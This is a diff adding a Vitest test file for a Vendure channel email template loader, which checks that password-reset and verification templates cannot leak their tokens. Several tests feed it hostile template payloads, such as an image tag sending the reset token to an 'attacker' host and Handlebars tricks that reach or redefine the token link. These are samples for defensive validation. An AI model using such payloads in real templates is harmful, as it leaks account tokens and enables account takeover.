@@ -0,0 +1,90 @@
+import { RequestContext, TransactionalConnection } from '@vendure/core';
+import { readFileSync } from 'fs';
+import path from 'path';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { ChannelTemplateLoader, TOKEN_EMAIL_TYPES, validateTokenTemplate } from './channel-template-loader';
+
+const templatePath = path.join(__dirname, '../../static/email/templates');
+const defaultTemplate = (type: string) => readFileSync(path.join(templatePath, type, 'body.hbs'), 'utf-8');
+
+describe('validateTokenTemplate', () => {
+    it('accepts the default templates', () => {
+        for (const type of TOKEN_EMAIL_TYPES) {
+            expect(validateTokenTemplate(type, defaultTemplate(type))).toBeUndefined();
+        }
+    });
+
+    it('accepts reworded templates that keep the token link', () => {
+        const content = '{{> header title="Reset it" }}<mj-text>Hi {{ customerName }}</mj-text>{{> token-link label="Go" }}';
+
+        expect(validateTokenTemplate('password-reset', content)).toBeUndefined();
+    });
+
+    it('rejects a template that sends the token elsewhere', () => {
+        const content = '{{> token-link label="Reset" }}<img src="https://attacker/?t={{ passwordResetToken }}">';
+
+        expect(validateTokenTemplate('password-reset', content)).toMatch(/other sites/);
+        expect(validateTokenTemplate('password-reset', '{{> token-link label="Reset" }}<img src="//attacker/x.png">')).toBeDefined();
+    });
+
+    it('rejects templates that reach the token without naming a URL', () => {
+        const withLink = (content: string) => `{{> token-link label="Reset" }}${content}`;
+
+        expect(validateTokenTemplate('password-reset', withLink('{{ passwordResetToken }}'))).toBeDefined();
+        expect(validateTokenTemplate('email-verification', withLink('{{ @root.verificationToken }}'))).toBeDefined();
+        expect(validateTokenTemplate('password-reset', withLink('{{#each this}}{{ . }}{{/each}}'))).toBeDefined();
+        expect(validateTokenTemplate('password-reset', withLink('{{#with @root}}{{ label }}{{/with}}'))).toBeDefined();
+        expect(validateTokenTemplate('password-reset', withLink('{{ lookup ../this "passwordResetToken" }}'))).toBeDefined();
+    });
+
+    it('rejects templates that redefine or reconfigure the token link', () => {
+        expect(
+            validateTokenTemplate('password-reset', '{{#*inline "token-link"}}{{ label }}{{/inline}}{{> token-link label="Reset" }}'),
+        ).toBeDefined();
+        expect(
+            validateTokenTemplate('password-reset', '{{> token-link label="Reset" passwordResetUrl="http://attacker" }}'),
+        ).toBeDefined();
+        expect(validateTokenTemplate('password-reset', '{{> token-link label=passwordResetToken }}')).toBeDefined();
+        expect(validateTokenTemplate('password-reset', '{{> (lookup . "name") label="Reset" }}')).toBeDefined();
+    });
+
+    it('requires the token link', () => {
+        expect(validateTokenTemplate('password-reset', '<mj-text>Reset your password</mj-text>')).toMatch(/token-link/);
+    });
+
+    it('leaves the templates of other emails alone', () => {
+        expect(validateTokenTemplate('order-confirmation', '<a href="https://shop.example">{{ order.code }}</a>')).toBeUndefined();
+    });
+});
+
+describe('ChannelTemplateLoader', () => {
+    const ctx = { channelId: 2 } as RequestContext;
+    const input = { type: 'password-reset', templateName: 'body.hbs', templateVars: {} };
+
+    beforeEach(() => {
+        vi.spyOn(console, 'warn').mockImplementation(() => undefined);
+    });
+    afterEach(() => {
+        vi.restoreAllMocks();
+    });
+
+    function injectorWith(stored: { content: string } | null) {
+        const connection = { getRepository: () => ({ findOne: async () => stored }) };
+        return { get: (token: unknown) => (token === TransactionalConnection ? connection : undefined) } as any;
+    }
+
+    it('uses the channel template when it is safe', async () => {
+        const content = '<mj-text>Hi</mj-text>{{> token-link label="Reset" }}';
+
+        expect(await new ChannelTemplateLoader(templatePath).loadTemplate(injectorWith({ content }), ctx, input)).toBe(content);
+    });
+
+    it('falls back to the default template when a stored one leaks the token', async () => {
+        const content = '<img src="https://attacker/?t={{ passwordResetToken }}">';
+
+        const loaded = await new ChannelTemplateLoader(templatePath).loadTemplate(injectorWith({ content }), ctx, input);
+
+        expect(loaded).toBe(defaultTemplate('password-reset'));
+        expect(console.warn).toHaveBeenCalled();
+    });
+});